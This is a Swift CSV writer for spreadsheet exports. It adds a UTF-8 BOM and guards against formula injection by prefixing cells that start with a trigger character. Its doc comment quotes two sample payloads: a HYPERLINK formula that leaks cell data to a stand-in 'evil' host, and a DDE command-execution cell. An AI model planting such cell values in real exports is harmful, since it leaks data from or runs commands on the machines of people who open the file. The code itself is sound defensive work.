/// RFC 4180 CSV writing for exports ("UTF-8 with BOM" so Excel on Chinese Windows detects UTF-8;
/// without the BOM it would read the bytes as GBK and show mojibake).
///
/// - Records end with CRLF; fields are quoted when they contain the delimiter, a quote, CR or LF, or
///   begin/end with a space or tab (so Excel does not trim them); quotes are doubled.
/// - Formula-injection guard (OWASP "CSV Injection"): Excel, WPS and LibreOffice evaluate a cell
///   that starts with `=`, `+`, `-` or `@` (and, via DDE, one that starts with TAB or CR) as a
///   formula. Exported values come from user-entered data (party names, addresses, remarks), so a
///   name like `=HYPERLINK("http://evil/?"&A1,"点击")` or `=cmd|' /C calc'!A0` would run or leak data
///   on the reviewer's machine when the export is opened. Such fields get a leading apostrophe, so
///   they no longer start with a trigger character and are shown as text (Excel displays the
///   apostrophe when opening a CSV; that is the accepted price, and it is not stripped on import).
///   Plain numbers such as `-12.5` or `+86` and a lone `-` / `+` placeholder are left alone: they
///   cannot be formulas, and numbers must stay numeric. Pass `guardFormulas: false` for CSV that is
///   consumed by programs, not people.
public struct CSVWriter: Sendable {
    private var buffer: [UInt8]
    private let delimiter: UInt8
    private let guardFormulas: Bool

    /// - Parameters:
    ///   - bom: start with the UTF-8 byte-order mark (EF BB BF).
    ///   - delimiter: field separator, an ASCII byte (default comma).
    ///   - guardFormulas: prefix formula-like fields with `'` (see the type documentation).
    public init(bom: Bool = true, delimiter: UInt8 = UInt8(ascii: ","), guardFormulas: Bool = true) {
        precondition(delimiter < 0x80 && delimiter != UInt8(ascii: "\"") && delimiter != 0x0D && delimiter != 0x0A,
                     "CSV delimiter must be an ASCII byte other than quote, CR or LF")
        self.buffer = bom ? [0xEF, 0xBB, 0xBF] : []
        self.buffer.reserveCapacity(4096)
        self.delimiter = delimiter
        self.guardFormulas = guardFormulas
    }

    /// The file so far.
    public var bytes: [UInt8] { buffer }

    public mutating func append(_ row: [String]) {
        for (index, field) in row.enumerated() {
            if index > 0 { buffer.append(delimiter) }
            appendField(field)
        }
        buffer.append(0x0D)
        buffer.append(0x0A)
    }

    public mutating func append(contentsOf rows: [[String]]) {
        for row in rows { append(row) }
    }

    private mutating func appendField(_ field: String) {
        var field = field
        field.withUTF8 { utf8 in
            let guardIt = guardFormulas && Self.looksLikeFormula(utf8)
            var needsQuotes = false
            if let first = utf8.first, let last = utf8.last,
               first == 0x20 || first == 0x09 || last == 0x20 || last == 0x09 {
                needsQuotes = true
            }
            if !needsQuotes {
                for b in utf8 where b == delimiter || b == 0x22 || b == 0x0D || b == 0x0A {
                    needsQuotes = true
                    break
                }
            }
            if needsQuotes { buffer.append(0x22) }
            if guardIt { buffer.append(UInt8(ascii: "'")) }
            if needsQuotes {
                for b in utf8 {
                    buffer.append(b)
                    if b == 0x22 { buffer.append(0x22) }
                }
                buffer.append(0x22)
            } else {
                buffer.append(contentsOf: utf8)
            }
        }
    }

    /// True for fields a spreadsheet would evaluate: leading `=`, `+`, `-`, `@`, TAB or CR, unless the
    /// whole field is a plain decimal number (`-12`, `+3.5`) or a lone `-` / `+`.
    static func looksLikeFormula(_ utf8: UnsafeBufferPointer<UInt8>) -> Bool {
        guard let first = utf8.first else { return false }
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "@"), 0x09, 0x0D:
            return true
        case UInt8(ascii: "+"), UInt8(ascii: "-"):
            return utf8.count > 1 && !isPlainNumber(utf8)
        default:
            return false
        }
    }

    /// `[+-]?digits(.digits)?`
    static func isPlainNumber(_ utf8: UnsafeBufferPointer<UInt8>) -> Bool {
        var i = 0
        if i < utf8.count, utf8[i] == UInt8(ascii: "+") || utf8[i] == UInt8(ascii: "-") { i += 1 }
        var intDigits = 0
        while i < utf8.count, (0x30...0x39).contains(utf8[i]) { i += 1; intDigits += 1 }
        guard intDigits > 0 else { return false }
        if i == utf8.count { return true }
        guard utf8[i] == UInt8(ascii: ".") else { return false }
        i += 1
        var fracDigits = 0
        while i < utf8.count, (0x30...0x39).contains(utf8[i]) { i += 1; fracDigits += 1 }
        return fracDigits > 0 && i == utf8.count
    }
}
